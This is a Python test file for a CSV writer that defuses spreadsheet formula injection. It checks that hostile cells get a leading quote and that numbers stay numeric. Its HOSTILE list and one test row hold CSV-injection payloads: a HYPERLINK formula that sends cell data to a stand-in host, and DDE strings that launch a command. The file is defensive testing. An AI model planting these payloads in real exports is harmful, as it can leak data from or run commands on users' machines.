"""The one CSV writer (ballistic.io.csv): formula cells neutralised (OWASP CSV injection), numbers kept
numbers; the benchmark tables and the i2 export go through it."""
from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from ballistic.errors import InputError
from ballistic.io.csv import FORMULA_TRIGGERS, csv_text, neutralise_cell, write_rows_csv

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "-1+1", "=", "+", "-", "@"]


def assert_no_formula(text: str) -> None:
    """Every cell of a CSV text is inert: it does not start with a trigger (after blanks), or it is one plain
    number literal."""
    import re

    number = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            head = cell.lstrip()
            assert cell.startswith("'") or not (cell.startswith(("\t", "\r")) or head.startswith(FORMULA_TRIGGERS)) \
                or number.fullmatch(head), repr(cell)


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_quote_in_front(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [-0.5, 0.5, -3, 0, 1e-300, -1e9, np.float64(-2.25), np.int64(-7), np.float32(-1.5),
                                   True, float("nan")])
def test_numbers_stay_numbers(value):
    out = neutralise_cell(value)
    assert out is value
    # and they are written as the number itself, which a spreadsheet reads as a number
    assert csv_text([[value]]).strip() == str(value)


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-3", "-.5", "12", "K-100", "Harbour Rd", "", "a=b", "1+1"])
def test_plain_text_and_number_literals_are_left_alone(text):
    assert neutralise_cell(text) == text


def test_csv_text_dict_rows_header_none_and_extras():
    text = csv_text([{"name": "=cmd", "score": -0.5, "note": None}, {"name": "ok", "score": 2}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "score", "note"], ["'=cmd", "-0.5", ""], ["ok", "2", ""]]
    assert text.endswith("\r\n")
    with pytest.raises(InputError, match="columns="):  # a later row with keys the first has not
        csv_text([{"a": 1}, {"a": 2, "b": 3}])
    assert csv_text([{"a": 1, "b": 2}], columns=["a"]) == "a\r\n1\r\n"  # listed columns choose
    assert csv_text([], columns=["a", "@b"]) == "a,'@b\r\n"
    assert csv_text([["=x", 1]], columns=["@c", "d"]) == "'@c,d\r\n'=x,1\r\n"  # sequence rows
    assert_no_formula(csv_text([{"x": h, "y": -0.25} for h in HOSTILE]))


def test_write_rows_csv_creates_the_folder_and_replaces_atomically(tmp_path):
    p = write_rows_csv([{"a": "@x", "b": 1.5}], tmp_path / "new" / "t.csv")
    assert p.read_bytes() == b"a,b\r\n'@x,1.5\r\n"
    write_rows_csv([{"a": 2}], p)
    assert p.read_bytes() == b"a\r\n2\r\n" and [q.name for q in p.parent.iterdir()] == ["t.csv"]


def test_bench_per_pair_csv_is_formula_safe(tmp_path):
    rows = [{"reference": '=HYPERLINK("http://x/?"&A1,"click")', "target": "@SUM(1+1)", "same_source": False,
             "cmc_count": 3, "similarity": -0.5}]
    p = write_rows_csv(rows, tmp_path / "pairs.csv")
    text = p.read_text()
    assert_no_formula(text)
    got = next(csv.DictReader(io.StringIO(text)))
    assert got["reference"].startswith("'=HYPERLINK") and got["similarity"] == "-0.5" and got["cmc_count"] == "3"
